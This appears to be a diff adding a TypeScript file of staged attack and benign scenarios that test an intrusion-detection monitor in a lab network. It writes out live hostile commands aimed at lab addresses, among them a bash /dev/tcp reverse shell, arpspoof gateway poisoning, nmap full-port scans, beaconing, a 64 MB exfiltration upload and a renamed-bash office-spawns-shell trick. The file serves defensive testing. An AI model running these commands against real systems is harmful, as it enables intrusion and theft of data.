@@ -1,0 +1,277 @@
+// The staged attacks and benign activities, one function each. A scenario starts its activity
+// and says what a correct alert must name; the runner owns the monitor, timing and verdicts.
+import { copyFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { TechniqueId } from '../../src-shared/attack';
+import type { Alert } from '../../src-shared/model';
+import { startAgent } from './agents';
+import { ADDR, NS, delay, labMac, type Lab, type LabProcess } from './lab';
+
+export interface StagedActivity {
+  /** True when the alert names the right process or endpoint for this activity. */
+  names(alert: Alert): boolean;
+  /** Ends the activity; safe to call twice. */
+  stop(): Promise<void>;
+}
+
+export interface Scenario {
+  id: string;
+  title: string;
+  /** The technique that must be alerted, or null for a benign scenario (no HIGH/CRITICAL allowed). */
+  expected: TechniqueId | null;
+  /** What a matching alert must name, for the matrix. */
+  mustName: string;
+  /** Other techniques that truly describe the activity, so not false alerts. */
+  alsoTrue?: TechniqueId[];
+  /** Commands the scenario needs besides node and ip. */
+  needs?: string[];
+  /** Attack: how long to wait for the alert. Benign: how long the activity runs. */
+  windowMs: number;
+  /** Runs before the monitor starts, so its result is part of the monitor's baseline. */
+  before?(lab: Lab): Promise<void>;
+  stage(lab: Lab): Promise<StagedActivity>;
+  /** Restores the lab for the next scenario. */
+  after?(lab: Lab): Promise<void>;
+}
+
+function mentions(alert: Alert, text: string): boolean {
+  return JSON.stringify([alert.source, alert.destination, alert.process, alert.evidence, alert.title, alert.description]).includes(text);
+}
+
+function isEndpoint(endpoint: Alert['destination'], address: string, ports?: number[]): boolean {
+  return endpoint?.address === address && (ports === undefined || endpoint.port === undefined || ports.includes(endpoint.port));
+}
+
+function stopping(...processes: LabProcess[]): () => Promise<void> {
+  return async () => { await Promise.all(processes.map((p) => p.stop())); };
+}
+
+/** One process holding TCP sessions to the given endpoints. */
+function sessions(lab: Lab, endpoints: string[], seconds: number, everyMs = 1000): Promise<LabProcess> {
+  return startAgent(lab, NS.victim, 'sessions', [...endpoints.flatMap((e) => ['--to', e]), '--seconds', String(seconds), '--every', String(everyMs)]);
+}
+
+function nmapScan(kind: '-sS' | '-sT'): (lab: Lab) => Promise<StagedActivity> {
+  return async (lab) => {
+    const scan = lab.run(NS.attacker, ['nmap', kind, '-Pn', '-n', '-T4', '-p-', ADDR.victim]);
+    return {
+      names: (alert) => isEndpoint(alert.source, ADDR.attacker) || mentions(alert, ADDR.attacker),
+      stop: stopping(scan),
+    };
+  };
+}
+
+/** Makes the victim resolve the gateway's real MAC (no ping here: one UDP datagram does it). */
+async function learnGatewayMac(lab: Lab): Promise<void> {
+  lab.exec(NS.victim, 'bash', '-c', `echo hello > /dev/udp/${ADDR.gw}/53`);
+  await delay(300);
+  const neigh = lab.exec(NS.victim, 'ip', 'neigh', 'show', ADDR.gw);
+  if (!neigh.includes(labMac(ADDR.gw))) throw new Error(`victim did not learn the gateway MAC: ${neigh}`);
+}
+
+export const SCENARIOS: Scenario[] = [
+  {
+    id: 'nmap-syn-scan',
+    title: 'nmap SYN scan (-sS -p-) from the attacker',
+    expected: 'T1046',
+    mustName: `source ${ADDR.attacker}`,
+    needs: ['nmap'],
+    windowMs: 15_000,
+    stage: nmapScan('-sS'),
+  },
+  {
+    id: 'nmap-connect-scan',
+    title: 'nmap connect scan (-sT -p-) from the attacker',
+    expected: 'T1046',
+    mustName: `source ${ADDR.attacker}`,
+    needs: ['nmap'],
+    windowMs: 20_000,
+    stage: nmapScan('-sT'),
+  },
+  {
+    id: 'arp-spoof',
+    title: 'arpspoof poisons the victim\'s entry for the gateway',
+    expected: 'T1557.002',
+    mustName: `gateway ${ADDR.gw} or attacker MAC ${labMac(ADDR.attacker)}`,
+    needs: ['arpspoof'],
+    windowMs: 15_000,
+    before: learnGatewayMac,
+    async stage(lab) {
+      const spoof = lab.run(NS.attacker, ['arpspoof', '-i', 'eth0', '-t', ADDR.victim, ADDR.gw]);
+      return {
+        names: (alert) => mentions(alert, ADDR.gw) || mentions(alert, labMac(ADDR.attacker)),
+        // arpspoof re-ARPs the real MAC for a few seconds after SIGTERM.
+        stop: async () => { await spoof.stop('SIGTERM', 8000); },
+      };
+    },
+    async after(lab) {
+      lab.exec(NS.victim, 'ip', 'neigh', 'flush', 'all');
+    },
+  },
+  {
+    id: 'reverse-shell',
+    title: `bash /dev/tcp reverse shell to ${ADDR.ext}:443`,
+    expected: 'T1059.004',
+    mustName: 'process bash',
+    // The lab starts bash from the test runner (node), which a parent→child rule may also flag.
+    alsoTrue: ['T1059'],
+    windowMs: 10_000,
+    async stage(lab) {
+      const shell = lab.run(NS.victim, ['bash', '-c', `bash -i >& /dev/tcp/${ADDR.ext}/443 0>&1`]);
+      return { names: (alert) => alert.process?.name === 'bash', stop: stopping(shell) };
+    },
+  },
+  {
+    id: 'dns-tunnel',
+    title: `DNS flood, long random names, to foreign resolver ${ADDR.foreignDns}`,
+    expected: 'T1071.004',
+    mustName: `resolver ${ADDR.foreignDns}`,
+    windowMs: 30_000,
+    async stage(lab) {
+      const flood = await startAgent(lab, NS.victim, 'dns-flood', ['--server', `${ADDR.foreignDns}:53`, '--rate', '25', '--seconds', '45']);
+      return {
+        names: (alert) => isEndpoint(alert.destination, ADDR.foreignDns) || mentions(alert, ADDR.foreignDns),
+        stop: stopping(flood),
+      };
+    },
+  },
+  {
+    id: 'beacon',
+    title: `beacon: one short connection every 2.5 s ± 0.2 s to ${ADDR.ext}:8443`,
+    expected: 'T1071',
+    mustName: `destination ${ADDR.ext}:8443`,
+    windowMs: 75_000,
+    async stage(lab) {
+      const beacon = await startAgent(lab, NS.victim, 'beacon', ['--target', `${ADDR.ext}:8443`, '--period', '2500', '--jitter', '200']);
+      return {
+        names: (alert) => isEndpoint(alert.destination, ADDR.ext, [8443]) || mentions(alert, ADDR.ext),
+        stop: stopping(beacon),
+      };
+    },
+  },
+  {
+    id: 'exfil-upload',
+    title: `upload of 64 MB at 8 MB/s to ${ADDR.ext}:8080`,
+    expected: 'T1048',
+    mustName: `destination ${ADDR.ext}`,
+    windowMs: 20_000,
+    async stage(lab) {
+      const upload = await startAgent(lab, NS.victim, 'upload', ['--target', `${ADDR.ext}:8080`, '--mb', '64', '--rate', '8', '--linger', '10']);
+      return {
+        names: (alert) => isEndpoint(alert.destination, ADDR.ext) || mentions(alert, ADDR.ext),
+        stop: stopping(upload),
+      };
+    },
+  },
+  {
+    id: 'admin-sessions',
+    title: 'one process opens SSH, RDP and SMB sessions to 3 internal servers',
+    expected: 'T1021',
+    mustName: 'the sessions process (pid)',
+    windowMs: 15_000,
+    async stage(lab) {
+      const [srv1, srv2, srv3] = ADDR.srv;
+      const client = await sessions(lab, [`${srv1}:22`, `${srv2}:3389`, `${srv3}:445`], 60);
+      return { names: (alert) => alert.process?.pid === client.pid, stop: stopping(client) };
+    },
+  },
+  {
+    id: 'tor-ports',
+    title: `sessions to Tor ports ${ADDR.tor}:9001 and :9050`,
+    expected: 'T1090.003',
+    mustName: `destination ${ADDR.tor} (9001/9050)`,
+    windowMs: 15_000,
+    async stage(lab) {
+      const client = await sessions(lab, [`${ADDR.tor}:9001`, `${ADDR.tor}:9050`], 60);
+      return {
+        names: (alert) => isEndpoint(alert.destination, ADDR.tor, [9001, 9050]) || mentions(alert, ADDR.tor),
+        stop: stopping(client),
+      };
+    },
+  },
+  {
+    id: 'office-spawns-shell',
+    title: 'a process named soffice.bin spawns a shell',
+    expected: 'T1059',
+    mustName: 'soffice.bin → bash',
+    windowMs: 10_000,
+    async stage(lab) {
+      const office = join(lab.tmp, 'soffice.bin');
+      copyFileSync('/bin/bash', office);
+      // The trailing ':' keeps both shells alive as parent and child (no exec of the last command).
+      const proc = lab.run(NS.victim, [office, '-c', 'bash -c "sleep 60; :"; :']);
+      return {
+        names: (alert) => mentions(alert, 'soffice.bin') && (alert.process?.name === 'bash' || alert.process?.name === 'soffice.bin'),
+        stop: stopping(proc),
+      };
+    },
+  },
+  {
+    id: 'bad-port-4444',
+    title: `session to ${ADDR.ext}:4444 (Metasploit default)`,
+    expected: 'T1571',
+    mustName: `destination port 4444`,
+    windowMs: 10_000,
+    async stage(lab) {
+      const client = await sessions(lab, [`${ADDR.ext}:4444`], 60);
+      return {
+        names: (alert) => isEndpoint(alert.destination, ADDR.ext, [4444]) || mentions(alert, '4444'),
+        stop: stopping(client),
+      };
+    },
+  },
+  {
+    id: 'benign-browser',
+    title: 'browser-like pools: 6 keep-alive connections to each of 3 web servers, irregular requests',
+    expected: null,
+    mustName: '-',
+    windowMs: 30_000,
+    async stage(lab) {
+      const [a, b, c] = ADDR.web;
+      const browser = await startAgent(lab, NS.victim, 'browse', [
+        '--server', `${a}:443`, '--server', `${b}:443`, '--server', `${c}:80`, '--pool', '6', '--seconds', '60',
+      ]);
+      return { names: () => false, stop: stopping(browser) };
+    },
+  },
+  {
+    id: 'benign-ssh',
+    title: `one SSH-port session to ${ADDR.srv[0]}`,
+    expected: null,
+    mustName: '-',
+    windowMs: 12_000,
+    async stage(lab) {
+      const client = await sessions(lab, [`${ADDR.srv[0]}:22`], 60, 1500);
+      return { names: () => false, stop: stopping(client) };
+    },
+  },
+  {
+    id: 'benign-multi-address',
+    title: `a LAN host with 3 addresses on one MAC (${ADDR.srv[0]}, ${ADDR.srv1Secondary.join(', ')})`,
+    expected: null,
+    mustName: '-',
+    windowMs: 12_000,
+    async stage(lab) {
+      for (const address of ADDR.srv1Secondary) lab.exec(NS.srv1, 'ip', 'addr', 'add', `${address}/24`, 'dev', 'eth0');
+      const client = await sessions(lab, [ADDR.srv[0], ...ADDR.srv1Secondary].map((a) => `${a}:80`), 60, 1500);
+      await delay(500);
+      const neigh = lab.exec(NS.victim, 'ip', 'neigh');
+      const sharing = neigh.split('\n').filter((line) => line.includes(labMac(ADDR.srv[0]))).length;
+      if (sharing < 3) throw new Error(`expected 3 neighbour entries on ${labMac(ADDR.srv[0])}, got:\n${neigh}`);
+      return { names: () => false, stop: stopping(client) };
+    },
+    async after(lab) {
+      for (const address of ADDR.srv1Secondary) lab.exec(NS.srv1, 'ip', 'addr', 'del', `${address}/24`, 'dev', 'eth0');
+    },
+  },
+  {
+    id: 'benign-idle',
+    title: 'idle victim (only the lab\'s own listeners)',
+    expected: null,
+    mustName: '-',
+    windowMs: 8_000,
+    async stage() {
+      return { names: () => false, stop: async () => {} };
+    },
+  },
+];
